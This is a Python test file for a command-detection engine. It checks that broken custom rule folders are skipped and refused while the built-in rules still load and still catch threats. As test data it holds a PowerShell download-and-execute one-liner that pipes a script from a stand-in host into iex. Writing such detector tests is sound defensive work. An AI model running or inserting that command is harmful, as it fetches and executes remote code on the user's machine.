"""A custom rule folder never costs protection: the folders `rules check` refuses are exactly
the ones the guard skips (and reports), and the built-in rules always load."""

from __future__ import annotations

import argparse
import io
from pathlib import Path

import pytest

from app.commands import EXIT_FLAGGED, EXIT_OK
from app.commands.rules import guard_rule_folders, run_check
from app.detection import Engine, Level
from app.detection.rules import ALWAYS_PER_SET, default_rules_dir
from app.detection.rulesets import check_rule_paths

MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'


def rule(rule_id: str, pattern: str) -> str:
    return (
        f"  - id: {rule_id}\n    title: Custom\n    explanation: A custom rule.\n"
        f"    technique: T1204.004\n    weight: 20\n    match:\n      any: ['{pattern}']\n"
    )


def folder_with(tmp_path: Path, name: str, body: str) -> Path:
    folder = tmp_path / name
    folder.mkdir()
    (folder / "custom.yaml").write_text(body, encoding="utf-8")
    return folder


def bad_folders(tmp_path: Path) -> dict[str, Path]:
    # patterns that compile one by one but not in the RE2 sets of the patterns with no atom
    # (too much memory together: a folder's in sets of rules.ALWAYS_PER_SET of SET_MAX_MEM);
    # no literal in them, so neither prefilter (rules.py, literals.py) sorts them out of the sets
    heavy = "".join(rule(f"CUSTOM-HEAVY-{i}", f"[a-z]{{{i + 1}}}" + "[a-z0-9]{1,900}[0-9]" * 16
                         + "[0-9]") for i in range(ALWAYS_PER_SET))  # fmt: skip
    return {
        "missing": tmp_path / "no-such-folder",
        "malformed": folder_with(tmp_path, "malformed", "rules: [this is: not: yaml\n"),
        "built-in id": folder_with(
            tmp_path, "dup", "rules:\n" + rule("PG-WIN-PS-DOWNLOAD-EXECUTE", "zzz")
        ),
        "does not compile as a set": folder_with(tmp_path, "heavy", "rules:\n" + heavy),
        "bad lists": folder_with(
            tmp_path, "lists", "lists:\n  block_hosts: 7\nrules:\n" + rule("CUSTOM-OK", "zzz")
        ),
    }


def check_exit(paths: list[Path]) -> int:
    try:
        return run_check(argparse.Namespace(paths=paths), io.StringIO())
    except Exception:  # a missing path is a usage error: refused as well
        return EXIT_FLAGGED


@pytest.mark.parametrize(
    "kind", ["missing", "malformed", "built-in id", "does not compile as a set", "bad lists"]
)
def test_a_folder_that_does_not_load_is_skipped_and_refused_by_rules_check(
    tmp_path: Path, kind: str
) -> None:
    folder = bad_folders(tmp_path)[kind]
    paths, problem = guard_rule_folders(str(folder))
    assert paths == [default_rules_dir()]  # the built-in rules, and nothing else
    assert problem is not None and str(folder) in problem
    assert check_exit([folder]) == EXIT_FLAGGED  # the check refuses what the guard skips
    engine = Engine(rule_paths=paths, strict=True)  # the guard's engine starts and protects
    assert engine.analyze(MALICIOUS).level is Level.MALICIOUS


def test_a_folder_that_loads_is_used_and_passes_the_check(tmp_path: Path) -> None:
    folder = folder_with(
        tmp_path, "good", "rules:\n" + rule("CUSTOM-ACME-LURE", "acme-verify-7731")
    )
    paths, problem = guard_rule_folders(str(folder))
    assert problem is None and paths == [default_rules_dir(), folder]
    assert check_exit([folder]) == EXIT_OK
    rules, errors = check_rule_paths([folder])
    assert errors == [] and [r.id for r in rules] == ["CUSTOM-ACME-LURE"]
    verdict = Engine(rule_paths=paths, strict=True).analyze("run acme-verify-7731 now")
    assert "CUSTOM-ACME-LURE" in verdict.rule_ids
